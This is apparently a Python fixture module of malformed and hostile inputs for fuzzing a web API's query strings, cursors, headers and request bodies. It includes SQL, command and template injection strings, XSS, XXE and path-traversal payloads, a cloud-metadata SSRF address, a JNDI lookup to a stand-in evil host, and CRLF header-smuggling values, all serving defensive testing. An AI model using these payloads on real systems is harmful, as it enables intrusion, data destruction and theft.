"""Strings that nobody sends by mistake, as they stand in a query string or path: percent-encoded, or faultily so.

None of them is a right value of any parameter. A search, or an address that nothing has, may find nothing with them.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote


def cursor(document: Any) -> str:
    """What `document` would be as a cursor."""
    text = document if isinstance(document, str) else json.dumps(document, separators=(",", ":"))
    return base64.urlsafe_b64encode(text.encode(errors="surrogatepass")).decode().rstrip("=")


ID = "00000000-0000-4000-8000-000000000000"
# Control characters, marks of direction, blanks without width, what is no character, and letters from afar.
CHARACTERS = [
    "\x00", "\x01", "\x07", "\x08", "\x09", "\x0a", "\x0b", "\x0c", "\x0d", "\x1a", "\x1b", "\x1f", "\x7f", "\x80",
    "\x85",
    "\x9f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
    "\u2069",
    "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e",
    "\u00a0",
    "\u3000", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000", "\ufdd0", "\ufffd", "\ufff9", "\U000e0001",
    "\u0301", "\u0301\u0301\u0301", "\u0345", "\ufe0f", "🙂", "👩‍👩‍👧‍👦", "𝔘𝔨𝔯", "İ", "ı", "ß", "ﬁ", "Ǆ", "ΐ",
    "９", "١", "²", "½",
    "〇", "\u1d173",
]  # fmt: skip
PARTS_OF_TEXT = [
    "a\x00", "\x00a", "a\x00b", "a\nb", "a\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK", "a\u202eb", "\u202etxt.exe",
    "a" * 201, "a" * 4_000, "a" * 4_001, "ё" * 4_000, "🙂" * 2_000, "a," * 60 + "a", "," * 100, ",", ",,", "a,,b",
    "a,", ",a",
    "-" * 121, " " * 200, " jq", "jq ", "\u00a0jq\u00a0", " ".join(["a"] * 11), " ".join("abcdefghijk"),
    "a." * 20 + "a",
]  # fmt: skip
ATTACKS = [
    "'", "''", '"', "`", "\\", "\\\\", "\\'", "%", "%%", "_", "_%", "%s", "%(x)s", "%n%n%n%n", "{}", "{0}",
    "{0.__class__}", "${7*7}",
    "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "$(id)", "`id`", "; id", "| id", "&& id", "' OR '1'='1", "' OR 1=1 --",
    "1 OR 1=1",
    "1; DROP TABLE negotiations_talk", "'; SELECT pg_sleep(9) --", "1 UNION SELECT NULL", "') OR ('1'='1", "$$;$$",
    "E'\\x00'",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<!--", "]]>",
    "<!ENTITY x SYSTEM 'file:///'>",
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "http://169.254.169.254/",
    "//evil.example",
    "\\\\evil\\share", "*", "**", "?", "[", "(", ")", "(a+)+$", "^(a|a)*$", "\\1", "[[:alpha:]]", "(?R)", "*)(uid=*",
    "=1+1", "@SUM(1)",
    "+1+1", "-1+1", "__proto__", "constructor", "toString", "__class__", "pk__in", "id__in", "slug__regex",
    "process__title",
    "delegations__party__slug", "COALESCE", "null", "NULL", "None", "nil", "undefined", "NaN", "Infinity",
    "-Infinity", "True",
    "False", "TRUE", "yes", "no", "on", "off", "[]", "{}}", "[1]", '{"a":1}', '["a"]', "a=b", "a:b", "a;b", "a/b",
    "a//b", "a#b", "a?b",
    "wikidata", "wikidata:", ":Q212", "wikidata:\x00", "nothing:Q212", "wikidata:Q212,", "TU", "TURR", "tur", "ZZZ",
    "T R", "ТУР",
]  # fmt: skip
NUMBERS = [
    "-1", "-0", "+1", "00", "01", "0x1", "0b1", "1_000", "1e1", "1e400", "1.0", "1.", ".5", "1,5", "1 0", "0.0000001",
    "2147483648",
    "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
    "1000000000000000000", "9" * 100, "9" * 3_999, "9" * 5_000, "-" + "9" * 5_000, "0" * 5_000, "1e" + "9" * 400,
    "1" * 19, "201", "1000",
]  # fmt: skip
DATES = [
    "0000", "0000-01-01", "0000-00-00", "-0001-01-01", "-9999", "3000", "9999-12-31", "10000-01-01", "99999-01-01",
    "2025-00",
    "2025-13", "2025-00-01", "2025-01-00", "2025-02-29", "2025-02-30", "2025-06-31", "2025-1-1", "20250516",
    "2025-W20", "2025-136",
    "2025-05-16T10:00", "2025-05-16T24:00:00Z", "2025-05-16T23:59:60Z", "2025-05-16T25:00:00Z", "2025-05-16T10:00:00",
    "2025-05-16T10:00:00-19:45", "2025-05-16T10:00:00+99:99", "2025-05-16T10:00:00+24:00", "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00", "0000-01-01T00:00:00Z", "2025-05-16T10:00:00.1234567890Z", "2025-05-16 10:00",
    "16.05.2025",
    "05/16/2025", "today", "now", "infinity", "-infinity", "epoch", "2025-05-20/2025-05-10", "../..", "/", "..", "//",
    "2025/2026/2027",
    "2025-05-16/", "2025~~", "~2025", "2025?%", "{2025,2026}", "[2025..2026]", "2025-XX", "20XX", "Y-170000002",
    "P1Y", "2025-05-16/P1D",
]  # fmt: skip
DATES.remove("2025-05-16/")  # which is right: an end that no source tells
CURSORS = [
    "W10", "e30", "bnVsbA", "MQ", "ImEi", "dHJ1ZQ", "____", "----", "=", "==", "YQ==", "W1td", "QjA", "Qj",
    *map(cursor, [
        [], {}, None, 1, "", [None], [[]], ["-start"], ["-start", "on"], ["-start", "on", []], ["-start", "on", {}],
        ["-start", "on", [None, None]], ["-start", "on", [None, 1]], ["-start", "on", [1, ID]], ["-start", "on",
        [["2025"], ID]],
        ["-start", "on", [["2025-05-16", "2025-05-17"], "a"]], ["-start", "on", [["2025-05-16", "2025-05-15"], ID]],
        ["-start", "on", [["0000-01-01", None], ID]], ["-start", "on", [["10000-01-01", None], ID]], ["-start", "on",
        [[None], ID]],
        ["-start", "on", [[None, None, None], ID]], ["-start", "on", [{"lower": None}, ID]], ["-start", "on", [None,
        ID, ID]],
        ["-start", "on", "ab"], ["-start", "on", 7], ["-start", "on", True], ["-start", "sideways", None], ["-start",
        None, None],
        ["-start", 1, None], ["-start", ["on"], None], [["-start"], "on", None], [None, "on", None], [1, "on", None],
        ["slug", "on", None],
        ["pk", "on", [ID]], ["start__gt", "on", None], ["-start", "on", None, None], ["title", "on", [1, ID]],
        ["title", "on", ["\x00", ID]],
        ["title", "on", ["\ud800", ID]], ["title", "on", [[], ID]], ["title", "on", [{}, ID]], ["-number", "on",
        [10**20]],
        ["-number", "on", [-(10**20)]], ["-number", "on", [1.5]], ["-number", "on", ["1"]], ["-number", "on", [True]],
        ["-number", "on", [None]], ["-number", "on", [[1]]], "[" * 2_900, "[" * 100_000, '{"a":' * 700, "NaN",
        "[NaN,NaN,NaN]", "1e999",
        "[" + "9" * 2_900 + "]", "\x00", "[\"-start\",\"on\",", "ё",
    ]),
    "talks.", f"talks.{ID[:-1]}", f"nothing.{ID}", f"TALKS.{ID}", f"talks.{ID}.{ID}", f"talks:{ID}",
]  # fmt: skip
# Bytes that are no UTF-8, lone and swapped surrogates, overlong forms, and percent signs that introduce nothing.
RAW = [
    "%", "%%", "%0", "%G0", "%zz", "%u0041", "%00", "%FF", "%FE%FF", "%80", "%BF", "%C3", "%C3%28", "%E2%82",
    "%F0%9F%98", "%ED%A0%80",
    "%ED%B0%80", "%ED%A0%BD%ED%B8%80", "%C0%80", "%C0%AF", "%E0%80%AF", "%F0%80%80%AF", "%F4%90%80%80",
    "%F8%88%80%80%80", "%2500",
    "%252e%252e%252f", "%2e%2e%2f", "%5c", "%0d%0a", "%00%00", "a%", "a%2", "+", "++", "%20", "%09", "", "%E3%80%80",
    "%C2%A0",
]  # fmt: skip


def encoded() -> Iterator[str]:
    for text in (*CHARACTERS, *PARTS_OF_TEXT, *ATTACKS, *NUMBERS, *DATES, *CURSORS):
        yield quote(text, safe="", errors="surrogatepass")
    yield from RAW


HOSTILE = list(dict.fromkeys(encoded()))
# Whole query strings: what is wrong is not a value.
QUERIES = [
    *(f"{name}=1" for name in RAW if name not in ("", "+", "++", "%20", "%09", "%E3%80%80", "%C2%A0")),
    "&".join(f"a{number}=1" for number in range(100_000)), "&".join(["page_size=1"] * 21), "page_size=1&page_size=1",
    "page_size=1&page%5Fsize=1", "as_of=1&as_of=1", "PAGE_SIZE=1", "page_size[]=1", "page_size[a]=1", "page-size=1",
    "page_size%00=1",
    "page_size", "=1", "=", "a" * 100_000, "a=" + "b" * 100_000, ";page_size=1", "page_size=1;ordering=title",
    "format=json", "callback=x",
    "limit=1", "offset=1", "page=1", "_method=DELETE", "debug=1", "pretty", "process__slug=a", "id__in=a",
    "ordering=title,start", "q=&q=",
]  # fmt: skip
HEADERS: dict[str, list[str]] = {
    "If-None-Match": ["*", "", '"', '""', "W/", 'W/"', '"a', "a", '"a","b', ",", ",,,", "\x00", '"\x00"', "ÿ",
        '"' + "a" * 100_000,
                      ",".join(['"a"'] * 10_000), "W/*", "null", '"%00"', "\\", '"\\"'],
    "If-Modified-Since": ["never", "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "0", "\x00",
        "9" * 5_000],
    "If-Match": ["*", '"a"', "garbage"], "If-Unmodified-Since": ["never", "Thu, 01 Jan 1970 00:00:00 GMT"],
    "If-Range": ['"a"', "garbage"], "Range": ["bytes=0-0", "bytes=-1", "bytes=9-1", "lines=1", "garbage"],
    "Accept": ["", "*", "*/", "/*", "/", ";", ",", ",,,", "*/*;q=", "*/*;q=2", "*/*;q=a", "*/*; q=0", "a", "a/b/c",
        "text/html", "image/*",
               "application/json;version=9", "application/json; indent=99999999", "application/json; indent=-1",
               "\x00", "ÿ", "a/b," * 10_000,
               "*/*;" * 10_000, "application/json;q=0", "application/vnd.evil+json", "text/csv;charset=utf-16",
               '*/*;a="', "(((("],
    "Accept-Encoding": ["", "*", "garbage", "gzip;q=", "gzip;q=9", "identity;q=0", "*;q=0", "br,gzip," * 1_000, "\x00"],
    "Accept-Language": ["", "*", "xx", "uk;q=a", "\x00", "a-" * 10_000], "Accept-Charset": ["utf-16", "garbage"],
    "X-Forwarded-For": ["", ",", "::", "::1", "127.0.0.1", "1.2.3.4, 5.6.7.8", "1.2.3.4:80", "[::1]:80", "999.9.9.9",
        "a" * 100_000,
                        "\x00", "ÿ", "127.0.0.1," * 10_000, "fe80::1%eth0", "0x7f.1", "unknown", "_hidden",
                        "1.2.3.4\r\nX: y"],
    "X-Forwarded-Host": ["evil.example", "\x00", "a" * 10_000], "X-Forwarded-Proto": ["https", "javascript", "\x00"],
    "Forwarded": ["for=1.2.3.4;host=evil.example", "garbage"], "X-Real-IP": ["1.2.3.4", "garbage"],
    "Host": ["", "evil.example", "testserver:99999", "testserver:a", "a b", "\x00", "[::1", "testserver.",
        "testserver@evil.example",
             "testserver/evil", "ÿ", "a" * 10_000, "..", "xn--"],
    "Origin": ["", "null", "evil", "http://", "https://evil.example\x00", "ÿ", "a" * 10_000, "file://"],
    "Access-Control-Request-Method": ["DELETE", "garbage", "\x00"], "Access-Control-Request-Headers": ["x", "\x00",
        "a," * 10_000],
    "Authorization": ["", "Bearer", "Bearer \x00", "Basic a", "Basic OjA=", "ÿ", "Bearer " + "a" * 10_000, "Digest"],
    "Cookie": ["", "a", "=", "sessionid=", "sessionid=\x00", "a=b;" * 10_000, "ÿ=ÿ", "sessionid=../../x",
        "csrftoken=a"],
    "X-Request-ID": ["", "a" * 10_000, "a\r\nb", "\x00", "${jndi:ldap://evil}"], "X-HTTP-Method-Override": ["DELETE",
        "PATCH"],
    "Content-Type": ["", "garbage", "application/json", "multipart/form-data", "multipart/form-data; boundary=\x00",
        "text/xml"],
    "Content-Length": ["", "-1", "a", "9" * 30, "0x1"], "Content-Encoding": ["gzip", "garbage"],
        "Transfer-Encoding": ["garbage"],
    "Expect": ["100-continue", "garbage"], "Upgrade": ["websocket", "h2c"], "TE": ["trailers", "garbage"],
        "User-Agent": ["", "\x00"],
    "Referer": ["\x00", "garbage"], "Sec-Fetch-Site": ["garbage"], "Prefer": ["return=minimal", "garbage"],
}  # fmt: skip
BODIES: dict[str, bytes] = {
    "nothing": b"", "a NUL": b"\x00", "no UTF-8": b"\xff\xfe", "no JSON": b"{",
    "a number of 5,000 digits": b"9" * 5_000,
    "10⁵ keys": json.dumps({str(number): 1 for number in range(100_000)}).encode(),
    "a key twice": b'{"a":1,"a":2}', "depth 10⁵": b"[" * 100_000, "objects to a depth of 10⁵": b'{"a":' * 100_000,
    "a lone surrogate": b'"\\ud800"', "not a number": b"NaN", "a form": b"page_size=0&as_of=0",
    "a form of 10⁵ fields": b"&".join([b"a=1"] * 100_000),
}  # fmt: skip
